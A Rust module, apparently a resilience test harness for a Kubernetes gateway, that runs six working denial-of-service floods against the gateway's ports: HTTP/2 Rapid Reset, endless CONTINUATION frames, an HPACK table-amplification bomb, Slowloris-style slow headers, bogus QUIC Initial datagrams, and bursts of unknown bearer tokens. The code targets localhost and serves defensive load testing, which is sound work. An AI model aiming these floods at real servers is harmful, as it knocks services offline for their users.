//! What an attacker sends without a credential, as fast as it goes: each flood runs until it is dropped, and counts.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UdpSocket;
use tokio::task::JoinSet;

use crate::client::Client;

const CONNECTIONS: usize = 8;
/// Of all connections together: more only shows how many there are processors for.
const BAD_TOKENS_PER_SECOND: u32 = 5_000;
/// Sent without a pause, on one connection.
const BURST: u32 = 2;
/// Of slow heads, each on a connection of its own.
const SLOW: usize = 300;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    BadTokens,
    Continuation,
    HpackBomb,
    QuicInitials,
    RapidReset,
    SlowHeads,
}

pub const KINDS: [Kind; 6] = [
    Kind::BadTokens,
    Kind::Continuation,
    Kind::HpackBomb,
    Kind::QuicInitials,
    Kind::RapidReset,
    Kind::SlowHeads,
];

/// Where it goes: a gateway's port of clients, over HTTP/1.1 and HTTP/2, and its port of tunnels.
#[derive(Clone)]
pub struct Aim {
    pub http1: Client,
    pub http2: Client,
    pub tunnel: SocketAddr,
}

/// A flood that goes on; ends when dropped.
pub struct Flood {
    _running: JoinSet<()>,
    sent: Arc<AtomicU64>,
}

impl Flood {
    pub fn start(kind: Kind, aim: &Aim) -> Self {
        let sent = Arc::new(AtomicU64::new(0));
        let mut running = JoinSet::new();
        let connections = match kind {
            Kind::SlowHeads => SLOW,
            Kind::QuicInitials => 1,
            _ => CONNECTIONS,
        };
        for number in 0..connections {
            let (aim, sent) = (aim.clone(), sent.clone());
            running.spawn(async move {
                loop {
                    // Whatever the other side does about it, the next connection goes on.
                    _ = once(kind, &aim, number, &sent).await;
                    tokio::time::sleep(Duration::from_millis(5)).await;
                }
            });
        }
        Self { _running: running, sent }
    }

    /// Requests, frames, bytes or datagrams so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

async fn once(kind: Kind, aim: &Aim, number: usize, sent: &AtomicU64) -> anyhow::Result<()> {
    match kind {
        Kind::BadTokens => bad_tokens(&aim.http1, number, sent).await,
        Kind::Continuation => continuation(&aim.http2, sent).await,
        Kind::HpackBomb => hpack_bomb(&aim.http2, sent).await,
        Kind::QuicInitials => initials(aim.tunnel, sent).await,
        Kind::RapidReset => rapid_reset(&aim.http2, sent).await,
        Kind::SlowHeads => slow_head(&aim.http1, sent).await,
    }
}

/// A new token with each request, well-formed and unknown.
async fn bad_tokens(client: &Client, number: usize, sent: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = client.connect().await?;
    let mut answer = vec![0; 8 << 10];
    let mut pace =
        tokio::time::interval(Duration::from_secs(1) / BAD_TOKENS_PER_SECOND * (BURST * CONNECTIONS as u32));
    for count in 0_u32.. {
        if count % BURST == 0 {
            pace.tick().await;
        }
        let token = drover_api::token::generate();
        let request = format!(
            "GET /k8s/clusters/one/api?{number} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n\r\n",
            token.secret.expose()
        );
        stream.write_all(request.as_bytes()).await?;
        if stream.read(&mut answer).await? == 0 {
            return Ok(());
        }
        sent.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}

/// A header block that never ends.
async fn continuation(client: &Client, sent: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = client.connect().await?;
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(0x1, 0, 1, &[0x82])).await?;
    // A literal field without a name in the table: `x: y`, again and again.
    let part = frame(0x9, 0, 1, &b"\0\x01x\x01y".repeat(100));
    loop {
        stream.write_all(&part).await?;
        sent.fetch_add(1, Ordering::Relaxed);
    }
}

/// One large field in the table, and a block that names it thousands of times.
async fn hpack_bomb(client: &Client, sent: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = client.connect().await?;
    stream.write_all(PREFACE).await?;
    let mut block = vec![0x82, 0x87, 0x84, 0x41, 9];
    block.extend_from_slice(b"localhost");
    // Literal with indexing: name of one byte, a value of 3,900, which the table of 4,096 holds.
    block.extend_from_slice(&[0x40, 1, b'x', 0x7f]);
    let mut length = 3_900 - 127;
    while length >= 128 {
        block.push((length % 128 + 128) as u8);
        length /= 128;
    }
    block.push(length as u8);
    block.extend(std::iter::repeat_n(b'a', 3_900));
    block.extend(std::iter::repeat_n(0xbe_u8, 10_000));
    for stream_id in (1..).step_by(2) {
        stream.write_all(&frame(0x1, 0x5, stream_id, &block)).await?;
        sent.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}

async fn rapid_reset(client: &Client, sent: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = client.connect().await?;
    stream.write_all(PREFACE).await?;
    // GET https://localhost/ without indexing.
    let block = [&[0x82, 0x87, 0x84, 0x01, 9][..], b"localhost"].concat();
    for stream_id in (1..0x7fff_fff0).step_by(2) {
        let pair = [frame(0x1, 0x5, stream_id, &block), frame(0x3, 0, stream_id, &[0, 0, 0, 8])].concat();
        stream.write_all(&pair).await?;
        sent.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}

/// A head of which a byte comes every second.
async fn slow_head(client: &Client, sent: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = client.connect().await?;
    for byte in
        b"GET /k8s/clusters/one/api HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".iter().chain([&b'a'; 1000])
    {
        stream.write_all(&[*byte]).await?;
        stream.flush().await?;
        sent.fetch_add(1, Ordering::Relaxed);
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

/// QUIC's first packets, each of another peer's that there is not.
async fn initials(to: SocketAddr, sent: &AtomicU64) -> anyhow::Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await?;
    loop {
        for _ in 0..120 {
            let mut packet: [u8; 1200] = std::array::from_fn(|_| rand::random());
            // Long header, version 1, an id of 8 bytes, none of ours, no token, the rest as payload.
            packet[..6].copy_from_slice(&[0xc3, 0, 0, 0, 1, 8]);
            packet[14..18].copy_from_slice(&[0, 0, 0x44, 0x9e]);
            _ = socket.send_to(&packet, to).await;
            sent.fetch_add(1, Ordering::Relaxed);
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

fn frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream_id.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}
